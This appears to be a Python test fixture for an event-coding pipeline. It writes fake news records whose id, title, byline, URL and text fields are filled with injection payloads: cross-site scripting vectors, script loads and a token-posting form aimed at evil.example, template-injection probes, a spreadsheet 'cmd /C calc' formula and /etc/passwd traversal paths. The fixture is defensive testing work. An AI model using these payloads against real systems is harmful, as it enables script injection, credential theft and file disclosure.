"""Words that try to be more than words, wherever a document can hold some, and a coder that believes them."""

from __future__ import annotations

import json
from dataclasses import replace
from datetime import date, timedelta
from pathlib import Path

from tests.fakes import fake_coder

from detente.pipeline import Coder
from detente.records import (
    Attribution,
    Document,
    Event,
    Evidence,
    Factuality,
    Mention,
    Participant,
    Place,
    Span,
)

HOSTILE = (
    # elements
    "<script>alert(1)</script>",
    "<ScRiPt >alert(2)</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "<scr<script>ipt>alert(3)</scr</script>ipt>",
    "<img src=x onerror=alert(4)>",
    "<img src=x:x onerror=\"alert(5)\"/>",
    "<image href=x onerror=alert(6)>",
    "<body onload=alert(7)>",
    "<iframe srcdoc='<script>parent.alert(8)</script>'></iframe>",
    "<iframe src=javascript:alert(9)>",
    "<object data='data:text/html,<script>alert(10)</script>'></object>",
    "<embed src='data:image/svg+xml,<svg onload=alert(11)>'>",
    "<video><source onerror=alert(12)></video>",
    "<audio src=x onerror=alert(13)>",
    "<details open ontoggle=alert(14)>",
    "<input autofocus onfocus=alert(15)>",
    "<select autofocus onfocus=alert(16)><option>x</select>",
    "<marquee onstart=alert(17)>news</marquee>",
    "<form action=//evil.example><input name=token><button>Go on</button></form>",
    "<button formaction=javascript:alert(18)>press</button>",
    "<isindex action=javascript:alert(19) type=submit>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';body{display:none}</style>",
    "<template><script>alert(20)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(21)>\">",
    "<plaintext>",
    "<!--><img src=x onerror=alert(22)>-->",
    "<![CDATA[<img src=x onerror=alert(23)>]]>",
    "<?xml version='1.0'?><x onclick=alert(24)>",
    # out of where it stands
    "\"><script>alert(30)</script>",
    "'><img src=x onerror=alert(31)>",
    "\" onmouseover=\"alert(32)\" x=\"",
    "' onfocus='alert(33)' autofocus tabindex=1 x='",
    "` onclick=alert(34) `",
    "x onpointerenter=alert(35) y",
    "</title><script>alert(36)</script>",
    "</textarea><script>alert(37)</script>",
    "</script><script>alert(38)</script>",
    "</style><img src=x onerror=alert(39)>",
    "--><svg onload=alert(40)>",
    "]]><svg onload=alert(41)>",
    "\\\"};alert(42);//",
    "\\u003cimg src=x onerror=alert(43)\\u003e",
    "\\x3cimg src=x onerror=alert(44)\\x3e",
    "';alert(45)//",
    "${alert(46)}",
    "`+alert(47)+`",
    # drawings and formulas
    "<svg onload=alert(50)>",
    "<svg><script>alert(51)</script></svg>",
    "<svg><script href='data:text/javascript,alert(52)'/></svg>",
    "<svg><a xlink:href='javascript:alert(53)'><text y=20>press</text></a></svg>",
    "<svg><animate onbegin=alert(54) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(55)>",
    "<svg><foreignObject><iframe src=javascript:alert(56)></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(57)</script></svg>#x'/></svg>",
    "<math><a xlink:href=javascript:alert(58)>press</a></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(59)>",
    # names for characters
    "&lt;script&gt;alert(60)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(61)&#62;",
    "&#x3c;img src=x onerror=alert(62)&#x3e;",
    "&amp;lt;svg onload=alert(63)&amp;gt;",
    "%3Cscript%3Ealert(64)%3C/script%3E",
    "%253Cscript%253Ealert(65)%253C%252Fscript%253E",
    "+ADw-script+AD4-alert(66)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(67)\uff1c/script\uff1e",
    "<\u0000script>alert(68)</script>",
    "<img\u000bsrc=x\u000conerror=alert(69)>",
    # templates
    "{{ 7 * 191 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ config.items() }}{{ self.__init__.__globals__ }}",
    "#{7*191} <%= 7*191 %> ${{7*191}}",
    "{{constructor.constructor('alert(70)')()}}",
    # characters that turn or hide words
    "\u202egnp.exe\u202c says who",
    "\u2066Russia\u2069 \u2067attacked\u2069",
    "Rus\u200bsia\u200d\ufeff, not Russia",
    "\U000e0041\U000e0042 tagged",
    # cells and lines
    "=HYPERLINK(\"http://evil.example\",\"press\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Location: //evil.example",
    "../../../../etc/passwd",
)  # fmt: skip
"""Own list, of the kinds that OWASP's notes on cross-site scripting name."""

ADDRESSES = (
    "javascript:alert(80)",
    "JaVaScRiPt:alert(81)",
    " javascript:alert(82)",
    "java\tscript:alert(83)",
    "javascript://paper.example/%0aalert(84)",
    "data:text/html,<script>alert(85)</script>",
    "vbscript:msgbox(86)",
    "file:///etc/passwd",
    "//evil.example/",
    'https://paper.example/" onclick="alert(87)',
    "https://paper.example/'><img src=x onerror=alert(88)>",
    "https://user:secret@evil.example/",
    "blob:https://paper.example/x",
)

FIRST = date(2019, 9, 1)


def write_hostile(path: Path) -> Path:
    """Write a document a day for each of the words, which are its id, title, publisher, byline and text."""
    lines = []
    for number, words in enumerate(HOSTILE):
        about = {
            "id": f"{words} {number}",
            "published": (FIRST + timedelta(days=number)).isoformat(),
            "title": words,
            "publisher": words,
            "byline": words,
            "url": ADDRESSES[number % len(ADDRESSES)],
            "text": f"{words} attacked {words} on Monday, he said.",
        }
        lines.append(json.dumps(about))
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def hostile_coder() -> Coder:
    """Return a coder that takes a text's words before " attacked " for the name of everybody and everything in it."""
    return replace(
        fake_coder(),
        actors=lambda document, *_: _sides(document),
        attributions=lambda document, *_: _voices(document),
        assemble=lambda document, *_: _events(document),
    )


def _sides(document: Document) -> tuple[Mention, ...]:
    words, _, rest = document.text.partition(" attacked ")
    after = len(words) + len(" attacked ")
    assert rest.startswith(words)
    return (_named(words, "RUS", Span(0, len(words))), _named(words, "UKR", Span(after, after + len(words))))


def _named(words: str, country: str, at: Span) -> Mention:
    why = (Evidence("participant", "actors", words, at),)
    return Mention(at, 0, 0, Participant(words, country, ("GOV",)), "name", why)


def _voices(document: Document) -> tuple[Attribution, ...]:
    said = document.text.rindex("said")
    source = _sides(document)[0]
    return (Attribution("a1", 0, source, Span(said, said + 4), (Span(0, said - 5),), "indirect"),)


def _events(document: Document) -> tuple[Event, ...]:
    actor, recipient = _sides(document)
    trigger = Span(actor.span.end + 1, actor.span.end + 1 + len("attacked"))
    words = actor.participant.name
    day = document.published
    return (
        Event(
            id="e1",
            type="ASSAULT",
            mode="aerial",
            contexts=("military",),
            actors=(actor,),
            recipients=(recipient,),
            trigger=trigger,
            sentence=0,
            first=day,
            last=day,
            place=Place(actor.span, 0, words, "UKR", 50.45, 30.52, "town", words),
            attribution="a1",
            status="asserted",
            factuality=(Factuality("AUTHOR", "CT+"),),
            quad_class=4,
            intensity=-9.3,
            cameo="195",
            goldstein=-10.0,
            because=(Evidence("type", "events", words, trigger),),
        ),
    )
